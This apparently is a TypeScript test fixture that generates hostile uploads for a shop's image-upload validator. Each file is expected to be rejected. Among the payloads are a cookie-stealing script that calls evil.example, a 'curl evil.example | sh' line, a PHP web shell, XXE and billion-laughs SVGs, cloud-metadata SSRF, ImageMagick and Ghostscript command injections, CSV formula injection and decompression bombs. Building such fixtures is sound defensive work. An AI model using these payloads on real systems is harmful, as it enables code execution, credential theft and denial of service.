// Files that are no still picture of a kind that the shop takes, whatever they call themselves.
import { deflateRawSync, gzipSync } from 'node:zlib'
import { box, noise, png, pngChunk } from './bytes.ts'
import type { HostileFile } from './hostile-uploads.ts'

const text = (words: string) => Buffer.from(words)
const hex = (digits: string) => Buffer.from(digits.replaceAll(' ', ''), 'hex')

const gif = hex('47494638396101000100800000000000ffffff2c00000000010001000002024401003b')
const script = '<script>fetch("https://evil.example/?"+document.cookie)</script>'

const scripts: Record<string, string> = {
  html: `<!doctype html><html><body>${script}</body></html>`,
  'html fragment': script,
  svg: `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`,
  'svg with doctype': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  'svg of a billion laughs': `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>`,
  'svg that calls home':
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/latest/meta-data/"/></svg>',
  php: '<?php system($_GET["c"]); ?>',
  shell: '#!/bin/sh\ncurl evil.example | sh\n',
  imagemagick:
    'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://evil.example/"|id; ")\'\npop graphic-context',
  'ghostscript eps': '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file\n',
  pdf: '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF',
  json: '{"__proto__":{"isAdmin":true}}',
  csv: '=cmd|"/C calc"!A0,1,2',
  'data uri': 'data:image/png;base64,iVBORw0KGgo=',
  address: 'http://169.254.169.254/latest/meta-data/',
  pnm: 'P6\n1 1\n255\nabc',
  'pnm bomb': 'P5\n100000 100000\n255\n',
  xbm: '#define x_width 8\n#define x_height 8\nstatic char x_bits[] = {0xff};',
  'radiance hdr': '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\nabcd',
  vips: 'vips matrix\n2 2\n1 2\n3 4',
}

const binaries: Record<string, Buffer> = {
  nothing: Buffer.alloc(0),
  'one byte': hex('ff'),
  'sixteen zeros': Buffer.alloc(16),
  'a megabyte of zeros': Buffer.alloc(1024 * 1024),
  gif,
  'gif89a with script': Buffer.concat([text('GIF89a/*'), Buffer.alloc(16), text(`*/=1;alert(1)//`)]),
  'animated gif': Buffer.concat([
    gif.subarray(0, 13),
    hex('21ff0b4e45545343415045322e300301000000'),
    gif.subarray(13),
  ]),
  bmp: Buffer.concat([hex('424d3a000000000000003600000028000000010000000100000001001800'), Buffer.alloc(28)]),
  ico: hex('00000100010001010000010018003000000016000000'),
  'tiff little endian': hex('49492a0008000000010000010300010000000100000000000000'),
  'tiff big endian': hex('4d4d002a00000008000101000003000000010001000000000000'),
  'tiff bomb': hex(
    '49492a00080000000300 0001 0400 01000000 ffffff7f 0101 0400 01000000 ffffff7f 0301 0300 01000000 05000000 00000000',
  ),
  'tiff that bites its tail': hex('49492a00080000000000 08000000'),
  psd: Buffer.concat([
    text('8BPS'),
    hex('000100000000000000030000753000007530000800030000'),
    Buffer.alloc(64),
  ]),
  'jpeg 2000': hex('0000000c6a5020200d0a870a00000014667479706a703220'),
  'jpeg xl': hex('ff0a fa1f 0100 0000 0000 0000 0000 0000 0000'),
  'jpeg xl container': hex('0000000c4a584c200d0a870a00000014667479706a786c20'),
  heic: Buffer.concat([
    box('ftyp', text('heic'), Buffer.alloc(4), text('mif1heic')),
    box('meta', Buffer.alloc(64)),
  ]),
  'heic sequence': Buffer.concat([
    box('ftyp', text('hevc'), Buffer.alloc(4), text('hevc')),
    box('moov', Buffer.alloc(64)),
  ]),
  'avif of nothing': box('ftyp', text('avif'), Buffer.alloc(4), text('avifmif1')),
  'avif sequence': Buffer.concat([
    box('ftyp', text('avis'), Buffer.alloc(4), text('avisavif')),
    box('moov', Buffer.alloc(64)),
  ]),
  'avif with a box of 4 GB': Buffer.concat([
    box('ftyp', text('avif'), Buffer.alloc(4), text('avif')),
    hex('ffffffff6d646174'),
    Buffer.alloc(64),
  ]),
  'avif with a box of none': Buffer.concat([
    box('ftyp', text('avif'), Buffer.alloc(4)),
    hex('00000001 6d657461'),
    Buffer.alloc(64),
  ]),
  mp4: Buffer.concat([
    box('ftyp', text('isom'), Buffer.alloc(4), text('isomavc1')),
    box('mdat', Buffer.alloc(64)),
  ]),
  zip: Buffer.concat([text('PK\u0003\u0004'), noise(60, 1), text('PK\u0005\u0006'), Buffer.alloc(18)]),
  gzip: gzipSync(Buffer.alloc(2_000_000)),
  'raw deflate bomb': deflateRawSync(Buffer.alloc(20_000_000)),
  'windows program': Buffer.concat([text('MZ'), noise(200, 2)]),
  'linux program': Buffer.concat([hex('7f454c460201010000000000000000000200'), noise(200, 3)]),
  'java class': Buffer.concat([hex('cafebabe00000034'), noise(80, 4)]),
  flash: Buffer.concat([text('CWS'), noise(80, 5)]),
  sqlite: Buffer.concat([text('SQLite format 3\0'), Buffer.alloc(84)]),
  font: Buffer.concat([text('wOF2'), noise(90, 6)]),
  'jpeg start only': hex('ffd8ffe000104a46494600010100000100010000'),
  'jpeg of markers': Buffer.concat([hex('ffd8'), Buffer.alloc(60_000, 0xff)]),
  'jpeg of endless segments': Buffer.concat([
    hex('ffd8'),
    ...Array.from({ length: 5_000 }, () => hex('ffe10002')),
    hex('ffd9'),
  ]),
  'jpeg that claims 65500 x 65500': hex(
    'ffd8ffe000104a46494600010100000100010000ffc0001108ffdcffdc03011100021101031101ffd9',
  ),
  'jpeg of height 0': hex('ffd8ffc0001108000000100301110002110103110 1ffd9'.replace(' ', '')),
  'png start only': hex('89504e470d0a1a0a 0000000d49484452'),
  'png of width 0': png({ width: 0, height: 4, rows: Buffer.alloc(4) }),
  'png that claims 2 billion x 2 billion': png({
    width: 0x7fffffff,
    height: 0x7fffffff,
    rows: Buffer.alloc(9),
  }),
  'png of no such depth': png({ width: 4, height: 4, depth: 3 }),
  'png of no such colour': png({ width: 4, height: 4, colour: 9 }),
  'png with a broken sum': (() => {
    const bytes = png({ width: 4, height: 4 })
    bytes.writeUInt32BE(1, 29)
    return bytes
  })(),
  'png without pixels': Buffer.concat([
    png({ width: 4, height: 4 }).subarray(0, 33),
    pngChunk('IEND', Buffer.alloc(0)),
  ]),
  'png with half the rows': png({ width: 400, height: 400, rows: Buffer.alloc(401 * 20) }),
  'webp start only': Buffer.concat([text('RIFF'), hex('24000000'), text('WEBPVP8 ')]),
  'webp that claims 4 GB': Buffer.concat([
    text('RIFF'),
    hex('ffffffff'),
    text('WEBPVP8L'),
    hex('ffffffff2f'),
    noise(50, 8),
  ]),
  'webp of noise': Buffer.concat([text('RIFF'), hex('00010000'), text('WEBPVP8 '), noise(250, 9)]),
  'webp lossless bomb': Buffer.concat([
    text('RIFF'),
    hex('1c000000'),
    text('WEBPVP8L'),
    hex('0f0000002fffffff0f'),
    Buffer.alloc(16),
  ]),
  'wav as riff': Buffer.concat([text('RIFF'), hex('24000000'), text('WAVEfmt '), Buffer.alloc(30)]),
}

export function notPictures(): HostileFile[] {
  const written = Object.entries(scripts).flatMap(([name, words]) => [
    { name, bytes: text(words) },
    // With what some readers skip before it.
    { name: `${name} after a byte order mark`, bytes: Buffer.concat([hex('efbbbf'), text(words)]) },
    { name: `${name} behind a JPEG start`, bytes: Buffer.concat([hex('ffd8ffe0'), text(words)]) },
    { name: `${name} behind a PNG start`, bytes: Buffer.concat([hex('89504e470d0a1a0a'), text(words)]) },
    { name: `${name} behind a GIF start`, bytes: Buffer.concat([text('GIF89a'), text(words)]) },
  ])
  const raw = Object.entries(binaries).map(([name, bytes]) => ({ name, bytes }))
  const noises = Array.from({ length: 20 }, (_, at) => ({
    name: `noise ${at}`,
    bytes: noise(50 + at * 211, at + 10),
  }))
  return [...written, ...raw, ...noises].map((file) => ({ ...file, mayBeTaken: false }))
}
